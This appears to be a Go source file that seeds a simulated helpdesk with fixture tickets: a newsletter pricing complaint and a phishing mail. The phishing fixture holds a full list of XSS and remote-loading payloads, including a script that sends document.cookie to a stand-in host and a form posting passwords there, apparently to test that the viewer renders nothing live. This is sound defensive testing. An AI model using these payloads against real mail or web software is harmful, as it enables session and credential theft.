package sim

import (
	"fmt"
	"strings"
)

// seedNewsletter: a formatted mail with tables, inline styles and inline pictures, as marketing
// programs write them, sent back by a customer who reads the small print.
func seedNewsletter(d *data) {
	th := d.open(TicketNewsletter, d.ago(4, "09:02:10"), ottoline, "email", "Fwd: Autumn at Home: 40 % off everything for the kitchen")
	th.tagged("pricing", "marketing").field(fieldReason, "billing_issue").field(fieldAmount, "44.80")
	pot, lamp := offer("CASSEROLE", "67.20", blue), offer("LAMP", "39.00", green)
	th.mail(ottoline, 0, "Good morning, your newsletter (below) promises 40 % off everything for the kitchen. At the till I paid 112.00 for the casserole, not 67.20. The assistant said the small print excludes \"signature lines\". I have read the small print twice. It does not.\n\nOttoline Marsh\nMarsh & Moor, Interiors\n\n---------- Forwarded message ----------\nAUTUMN AT HOME. 40 % off everything for the kitchen.",
		newsletter(pot.name, lamp.name), banner(), pot, lamp, logo()).
		assign(mara, 30*mins, groupCare, mara).
		note(mara, 12*mins, "She is right. The footnote on the mail says \"excludes gift cards\". The exclusion of signature lines is on the web page only. Whoever made the newsletter left out footnote 2.").
		note(wes, 9*mins, "Confirmed with Marketing: the mail went to 61,000 people without footnote 2. They prefer that we \"handle it case by case\".").
		say(mara, 15*mins, "Dear Ms Marsh,\n\nyou read it correctly and so did I: nothing in the mail you received excludes the casserole. The difference of £44.80 goes back to your card today.\n\nI have asked for a correction to everybody who got the same mail, not only to those who write to us.\n\nMara Lindqvist").
		mail(ottoline, 3*hrs, "Thank you. That last sentence is why I shall stay a customer.",
			`<div style="font-family:Georgia,'Times New Roman',serif;font-size:15px;color:#333"><p style="margin:0 0 12px">Thank you. That last sentence is why I shall stay a customer.</p><table cellpadding="0" cellspacing="0" style="border-top:1px solid #c9b99a;padding-top:8px;margin-top:16px"><tr><td style="padding-right:12px"><img src="cid:logo.png" width="60" height="20" alt="Marsh &amp; Moor"></td><td style="font-size:12px;color:#7a6a4f"><b>Ottoline Marsh</b><br>Marsh &amp; Moor, Interiors<br><a href="https://www.marshandmoor.example/" style="color:#7a6a4f">marshandmoor.example</a></td></tr></table></div>`, logo()).
		status(mara, 2*hrs, "solved").
		rate(1*days, "good", "Read what I wrote. Rare.").
		sampled("A newsletter with a missing footnote", "A formatted mail with tables and pictures: the agent checks the claim before she answers it, and thinks of the other 60,999.")
}

// newsletter is the forwarded mail: nested tables, bgcolor, spacer cells, an Outlook comment.
func newsletter(pot, lamp string) string {
	item := func(src, name, was, now string) string {
		return fmt.Sprintf(`<td width="280" valign="top" align="center" style="padding:12px;background-color:#ffffff;border:1px solid #e4dccb"><img src="cid:%s" width="260" height="180" alt="%s" style="display:block;border:0"><p style="margin:10px 0 2px;font-size:16px;font-weight:bold;color:#2b2b2b">%s</p><p style="margin:0;font-size:14px;color:#8a8175"><s>£%s</s> &nbsp;<span style="color:#b8322c;font-weight:bold">£%s</span></p><p style="margin:12px 0 4px"><a href="https://www.acme.example/kitchen?utm_source=newsletter&amp;utm_campaign=autumn" style="background-color:#205493;color:#ffffff;padding:9px 22px;border-radius:3px;text-decoration:none;display:inline-block">Have a look</a></p></td>`, src, name, name, was, now)
	}
	return `<div dir="ltr"><p>Good morning, your newsletter (below) promises 40 % off <i>everything</i> for the kitchen. At the till I paid 112.00 for the casserole, not 67.20. The assistant said the small print excludes &ldquo;signature lines&rdquo;. I have read the small print twice. It does not.</p><p>Ottoline Marsh<br>Marsh &amp; Moor, Interiors</p><br><div class="gmail_quote">---------- Forwarded message ----------<br>From: <strong>Acme Home</strong> &lt;news@acme.example&gt;<br>Subject: Autumn at Home: 40 % off everything for the kitchen<br><br>
<!--[if mso]><table width="600"><tr><td><![endif]-->
<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f4efe4" style="background-color:#f4efe4;font-family:Helvetica,Arial,sans-serif"><tbody><tr><td align="center" style="padding:24px 8px">
<table width="600" cellpadding="0" cellspacing="0" border="0" style="width:600px;max-width:600px;background-color:#fffdf8">
<tr><td colspan="2"><img src="cid:autumn-banner.png" width="600" height="160" alt="Autumn at Home" style="display:block;width:100%;height:auto"></td></tr>
<tr><td colspan="2" style="padding:28px 32px 8px;font-family:Georgia,serif;font-size:26px;line-height:1.25;color:#2b2b2b">40&nbsp;% off everything for the kitchen<sup style="font-size:12px">1</sup></td></tr>
<tr><td colspan="2" style="padding:0 32px 20px;font-size:15px;line-height:1.6;color:#4a453c">The evenings are getting longer, and something ought to be on the stove. Until Sunday, at every Acme and in the web shop.</td></tr>
<tr>` + item(pot, "The blue casserole", "112.00", "67.20") + item(lamp, "Lamp &ldquo;Kelbrook&rdquo;", "65.00", "39.00") + `</tr>
<tr><td colspan="2" height="20" style="font-size:0;line-height:0">&nbsp;</td></tr>
<tr><td colspan="2" style="padding:16px 32px;background-color:#2b2b2b;color:#cfc7b8;font-size:11px;line-height:1.5"><sup>1</sup> Excludes gift cards. While stocks last. Acme Home, 1 Foundry Lane. <a href="https://www.acme.example/unsubscribe?id=8f2c" style="color:#ffffff">Unsubscribe</a></td></tr>
</table></td></tr></tbody></table>
<!--[if mso]></td></tr></table><![endif]-->
<img src="https://track.acme-mailer.example/open.gif?m=8f2c&amp;u=61000" width="1" height="1" alt=""></div></div>`
}

// seedHostile: a phishing mail that tries everything a mail can try. Nothing of it may run or load.
func seedHostile(d *data) {
	d.open(TicketHostile, d.ago(1, "05:17:33"), spoofer, "email", "Action required: verify your agent account").
		tagged("phishing").
		mail(spoofer, 0, "Dear agent, your mailbox is full. Verify your account within 24 hours or it will be closed.", hostileHTML).
		edit(func(c *comment) { c.Metadata.Flags = []int{4, 14}; c.Metadata.Trusted = ptr(false) }).
		assign(wes, 40*mins, groupTrust, olu).
		note(wes, 3*mins, "Reported by two people on the early shift. It looks like our sign-in page. Nobody should press the button. Sender is acme-security-check, not us; flags 4 and 14.").
		note(olu, 10*mins, "Blocked the domain. The mail holds a script, a frame, a tracking pixel, a refresh and a link that is not a link. All of them harmless as long as the reader's window neither runs nor loads anything.").
		status(olu, 1*mins, "solved").
		sampled("A phishing mail", "Everything a hostile mail can try, in one message: nothing may run, and nothing may be loaded.")
}

// hostileHTML holds one of each. evil.example cannot exist.
var hostileHTML = strings.Join([]string{
	`<meta http-equiv="refresh" content="0;url=https://collect.evil.example/refresh">`,
	`<base href="https://collect.evil.example/">`,
	`<link rel="stylesheet" href="https://collect.evil.example/style.css">`,
	`<style>@import url(https://collect.evil.example/import.css); body{background:url("https://collect.evil.example/css-bg.png")} .x{position:fixed;inset:0}</style>`,
	`<script>window.pwned="script";document.location="https://collect.evil.example/?c="+document.cookie</script>`,
	`<h2 style="color:#03363d">Verify your account</h2><p>Dear agent,<br>your mailbox is full. Verify your account <b>within 24 hours</b> or it will be closed.</p>`,
	`<p><a href="javascript:window.pwned='link'">Verify now</a> or <a href="&#106;&#97;v&#x61;script&colon;alert(1)" target="_top">verify here</a> or <a href="https://acme-security-check.example/login" onclick="window.pwned='click'">sign in</a></p>`,
	`<img src="https://collect.evil.example/pixel.gif?agent=1" width="1" height="1" alt="">`,
	`<img src=x onerror="window.pwned='onerror'"><img srcset="https://collect.evil.example/2x.png 2x" src="data:image/png;base64,iVBORw0KGgo=" alt="">`,
	`<svg onload="window.pwned='svg'"><script>window.pwned='svgscript'</script><use href="https://collect.evil.example/s.svg#a"/><animate attributeName="href" values="javascript:alert(1)"/></svg>`,
	`<iframe src="https://collect.evil.example/frame" srcdoc="<script>parent.pwned='srcdoc'</script>"></iframe>`,
	`<object data="https://collect.evil.example/o.swf"></object><embed src="https://collect.evil.example/e">`,
	`<form action="https://collect.evil.example/login" method="post"><label>Password <input type="password" name="p" autofocus onfocus="window.pwned='focus'"></label><button formaction="javascript:alert(1)">Verify</button></form>`,
	`<div style="background-image:url('https://collect.evil.example/inline.png');width:expression(alert(1));behavior:url(#x);-moz-binding:url(https://collect.evil.example/x.xml)">Your mailbox</div>`,
	`<video poster="https://collect.evil.example/poster.png"><source src="https://collect.evil.example/v.mp4" onerror="window.pwned='video'"></video><audio src="https://collect.evil.example/a.mp3" autoplay></audio>`,
	`<details open ontoggle="window.pwned='toggle'"><summary>Details</summary></details><marquee onstart="window.pwned='marquee'">24 hours</marquee>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="window.pwned='mxss'"></style></mglyph></table></mtext></math><noscript><p title="</noscript><img src=x onerror=window.pwned='noscript'>"></p></noscript>`,
	`<template><script>window.pwned="template"</script></template><input type="image" src="https://collect.evil.example/input.png"><table background="https://collect.evil.example/table.png"><tr><td>&nbsp;</td></tr></table>`,
	`<p id="location" name="cookie" class="zd-comment">Acme Security Team</p>`,
}, "\n")
